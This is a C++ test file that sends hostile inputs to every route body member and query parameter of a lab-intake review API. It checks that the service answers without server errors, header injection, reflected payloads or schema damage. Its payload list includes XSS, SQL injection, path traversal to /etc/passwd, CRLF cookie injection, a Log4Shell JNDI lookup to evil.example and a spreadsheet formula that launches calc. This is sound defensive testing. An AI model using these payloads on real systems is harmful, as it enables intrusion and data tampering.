// Requests that are right but for one member, which is hostile: every text and number of every body, every parameter of
// every address. The routes are those of the program, the parameters those of its description; a route whose body has
// no example here fails the first test.
#include <fmt/format.h>
#include <gtest/gtest.h>
#include <yaml-cpp/yaml.h>

#include <map>

#include "db/review_transaction.h"
#include "review/api/routes.h"
#include "tests/review/api_fixture.h"

namespace labintake::review::testing {
namespace {

using db::testing::Doc;
using db::testing::DoubtfulRow;
using db::testing::Must;

const std::map<Method, std::string> kNames = {{Method::kGet, "GET"},
                                              {Method::kPost, "POST"},
                                              {Method::kPut, "PUT"},
                                              {Method::kPatch, "PATCH"},
                                              {Method::kDelete, "DELETE"}};

const std::vector<std::string> kTexts = {"<script>alert(1)</script>",
                                         "\"><img src=x onerror=alert(1)>",
                                         "'; DROP TABLE users; --",
                                         "\" OR \"\"=\"",
                                         "../../../../etc/passwd",
                                         "..\\..\\boot.ini",
                                         "%2e%2e%2f%00",
                                         std::string("a\0b", 3),
                                         "a\r\nSet-Cookie: labintake_session=evil",
                                         "\xe2\x80\xae"
                                         "fdp.exe",
                                         "${jndi:ldap://evil.example/a}",
                                         "=cmd|' /C calc'!A0",
                                         "\xf0\x9f\x92\xa9",
                                         std::string(5000, 'A'),
                                         ""};

const std::vector<Json> kNotTexts = {nullptr,
                                     true,
                                     -1,
                                     0,
                                     1.5,
                                     1e308,
                                     INT64_MIN,
                                     UINT64_MAX,
                                     Json::array(),
                                     Json::object(),
                                     Json::array({Json::array()})};

class HostileInputTest : public ::testing::Test {
 protected:
  HostileInputTest() {
    f_.t.Put(Doc({DoubtfulRow("Iron", "5"), DoubtfulRow("Zinc", "5", "mg/dL", 120)}), "bytes");
    item_ = f_.Items().at(0);
    ada_ = std::make_unique<ApiClient>(f_.Program("Ada"));
    before_ = Schema();
  }

  static std::string KeyOf(const Route& route) { return kNames.at(route.method) + " " + std::string(route.pattern); }

  // A body that the route takes, as far as it has one.
  std::map<std::string, Json> Bodies() {
    const std::string version = ada_->Get("/api/v1/items/" + item_).json["version"];
    const Json answer = {{"key", f_.NewKey()}, {"action", "edit"}, {"fields", {{"value", "5"}, {"unit", "mg/dL"}}},
                         {"note", "a note"},   {"learn", true},    {"minutes", 60}};
    Json decide = answer, together = answer;
    decide["version"] = version;
    together["items"] = Json::array({{{"item", item_}, {"version", version}}});
    const Json row = {{"page", 1},       {"box", {10, 20, 30, 40}}, {"name", "Gold"}, {"value", "1"},
                      {"unit", "mg/dL"}, {"range", "0-2"},          {"flag", "H"},    {"analyte", ""}};
    return {
        {"POST /session", {{"name", "Ann"}, {"password", "not the password"}}},
        {"POST /me/password", {{"old", kPassword}, {"new", "another long password"}}},
        {"POST /items/next",
         {{"filter", {{"kind", "row"}, {"client", "C1"}, {"lab", "L"}, {"reason", "r"}, {"document", 1}}},
          {"except", {item_}}}},
        {"POST /items/{}/claim", Json::object()},
        {"POST /items/{}/decide", decide},
        {"POST /items/{}/undo", {{"key", f_.NewKey()}, {"note", "a note"}}},
        {"POST /items/{}/ask", {{"key", f_.NewKey()}, {"to", "Ben"}, {"text", "a question"}}},
        {"PUT /items/{}/draft", {{"value", "5"}}},
        {"POST /documents/{}/pages/{}/read", {{"box", {10, 20, 30, 40}}}},
        {"POST /documents/{}/rows", {{"key", f_.NewKey()}, {"report", 1}, {"rows", Json::array({row})}}},
        {"PATCH /documents/{}/reports/{}",
         {{"key", f_.NewKey()}, {"lab", "L"}, {"patient_name", "N"}, {"sex", "F"}, {"collected", "2024-05-01"}}},
        {"POST /documents/{}/doubt", {{"page", 1}, {"box", {10, 20, 30, 40}}}},
        {"PUT /documents/{}/client", {{"from", "C1"}, {"to", "C2"}}},
        {"PUT /documents/{}/priority", {{"priority", 1}}},
        {"PUT /documents/{}/draft", {{"value", "5"}}},
        {"POST /documents/{}/done", {{"key", f_.NewKey()}}},
        {"POST /groups/{}", Json::object()},
        {"POST /groups/{}/decide", together},
        {"POST /users", {{"name", "Dan"}, {"role", "entry"}, {"password", "correct horse battery"}}},
        {"PATCH /users/{}", {{"role", "lead"}, {"disabled", true}, {"password", "correct horse battery"}}},
        {"POST /users/{}/tokens", {{"label", "dashboard"}, {"days", 30}}},
    };
  }

  // With an item, a group, the user Rob and 1 in the places of the pattern.
  std::string Target(std::string_view pattern) const {
    std::string target = "/api/v1", before;
    while (!pattern.empty()) {
      pattern.remove_prefix(1);
      std::string one(pattern.substr(0, pattern.find('/')));
      pattern.remove_prefix(one.size());
      if (const std::size_t braces = one.find("{}"); braces != std::string::npos) {
        one.replace(braces, 2,
                    before == "items"    ? item_
                    : before == "users"  ? "Rob"
                    : before == "groups" ? "name-a"
                                         : "1");
      }
      target += "/" + one;
      before = one;
    }
    return target;
  }

  // An answer in order: whatever it says, it says it as JSON, and puts nothing of the request into its head.
  void ExpectAnswered(const Reply& reply, const std::string& what) {
    EXPECT_LT(reply.status, 500) << what << "\n" << reply.body;
    EXPECT_TRUE(reply.status == 204 || reply.json.is_object()) << what;
    for (const auto& [name, value] : reply.headers) {
      EXPECT_EQ(value.find_first_of("\r\n"), std::string::npos) << what << " " << name;
    }
    if (reply.status >= 400) {
      EXPECT_EQ(reply.body.find("script"), std::string::npos) << what << ": an error repeats what was sent";
      EXPECT_EQ(reply.body.find("DROP"), std::string::npos) << what << ": an error repeats what was sent";
    }
  }

  std::vector<std::string> Schema() {
    db::ReviewDatabaseOptions with;
    with.now = f_.options.now;
    const auto database = Must(db::OpenReviewDatabase(f_.t.path, std::move(with)));
    SQLite::Statement statement(database->sql(),
                                "SELECT name || ' ' || coalesce(sql, '') FROM sqlite_master ORDER BY name");
    std::vector<std::string> schema;
    while (statement.executeStep()) schema.push_back(statement.getColumn(0).getString());
    return schema;
  }

  void ExpectIntact() {
    EXPECT_EQ(Schema(), before_);
    EXPECT_EQ(ada_->Get("/api/v1/audit/verify").json["intact"], true);
    EXPECT_GE(ada_->Get("/api/v1/users").json["users"].size(), 6u);
  }

  ApiFixture f_;
  std::string item_;
  std::unique_ptr<ApiClient> ada_;
  std::vector<std::string> before_;
};

TEST_F(HostileInputTest, EveryRouteThatChangesSomethingHasABodyHere) {
  const std::map<std::string, Json> bodies = Bodies();
  std::size_t found = 0;
  for (const Route& route : AllRoutes()) {
    const bool upload = route.method == Method::kPost && route.pattern == "/documents";  // upload_test.cc
    if (route.method == Method::kGet || route.method == Method::kDelete || upload) continue;
    EXPECT_TRUE(bodies.contains(KeyOf(route)))
        << KeyOf(route) << " is tested with no hostile body; give one in Bodies()";
    ++found;
  }
  EXPECT_EQ(found, bodies.size()) << "a body stands here for a route that is no more";
}

// Otherwise what is hostile in them would not be reached.
TEST_F(HostileInputTest, TheBodiesAreRight) {
  // What they say cannot be done here, but is understood.
  const std::map<std::string, int> refused = {{"POST /session", 401},
                                              {"POST /me/password", 403},
                                              {"POST /documents/{}/done", 409},
                                              {"POST /groups/{}", 404},
                                              {"POST /documents/{}/doubt", 404}};
  for (const Route& route : AllRoutes()) {
    const std::map<std::string, Json> bodies = Bodies();
    const auto body = bodies.find(KeyOf(route));
    if (body == bodies.end()) continue;
    const Reply reply =
        ada_->Send(route.method, Target(route.pattern), body->second.dump(), {{"content-type", "application/json"}});
    const auto otherwise = refused.find(KeyOf(route));
    if (otherwise != refused.end()) {
      EXPECT_EQ(reply.status, otherwise->second) << KeyOf(route) << " " << reply.body;
    } else {
      EXPECT_LT(reply.status, 300) << KeyOf(route) << " " << reply.body;
    }
  }
}

TEST_F(HostileInputTest, EveryMemberOfEveryBody) {
  for (const Route& route : AllRoutes()) {
    const std::map<std::string, Json> bodies = Bodies();
    const auto body = bodies.find(KeyOf(route));
    if (body == bodies.end()) continue;
    const Json flat = body->second.flatten();
    for (const auto& member : flat.items()) {
      const auto send = [&](const Json& hostile) {
        Json whole = body->second;
        whole[Json::json_pointer(member.key())] = hostile;
        const Reply reply =
            ada_->Send(route.method, Target(route.pattern), whole.dump(), {{"content-type", "application/json"}});
        ExpectAnswered(reply,
                       fmt::format("{} with {} as {}", KeyOf(route), member.key(), hostile.dump().substr(0, 60)));
      };
      if (member.value().is_string()) {
        for (const std::string& text : kTexts) send(text);
      }
      for (const Json& other : kNotTexts) send(other);
    }
  }
  ExpectIntact();
}

TEST_F(HostileInputTest, EveryParameterOfEveryAddress) {
  const YAML::Node api = YAML::LoadFile(LABINTAKE_SOURCE_DIR "/docs/review-api/openapi.yaml");
  int parameters = 0;
  for (const auto& path : api["paths"]) {
    const YAML::Node get = path.second["get"];
    if (!get || !get["parameters"]) continue;
    std::string pattern;
    bool inside = false;
    for (const char c : path.first.Scalar()) {
      if (c == '}') inside = false;
      if (!inside) pattern += c;
      if (c == '{') inside = true;
    }
    for (YAML::Node parameter : get["parameters"]) {
      if (const YAML::Node ref = parameter["$ref"]) {
        const std::string name = ref.Scalar();
        parameter = api["components"]["parameters"][name.substr(name.rfind('/') + 1)];
      }
      if (parameter["in"].Scalar() != "query") continue;
      const std::string name = parameter["name"].Scalar();
      ++parameters;
      std::vector<std::string> texts = kTexts;
      texts.insert(texts.end(),
                   {"-1", "1e308", "NaN", "99999999999999999999", "0x10", "1,2,3", "0,0,1e9,1e9", "nan,nan,nan,nan"});
      for (const std::string& text : texts) {
        std::string encoded;
        for (const char c : text) encoded += fmt::format("%{:02x}", static_cast<unsigned char>(c));
        const Reply reply = ada_->Get(Target(pattern) + "?" + name + "=" + encoded);
        if (reply.status == 200 && !reply.json.is_object()) continue;  // a picture
        ExpectAnswered(reply, fmt::format("{} with {}={}", pattern, name, text.substr(0, 60)));
      }
    }
  }
  EXPECT_GT(parameters, 20) << "the description was not understood";
  ExpectIntact();
}

}  // namespace
}  // namespace labintake::review::testing
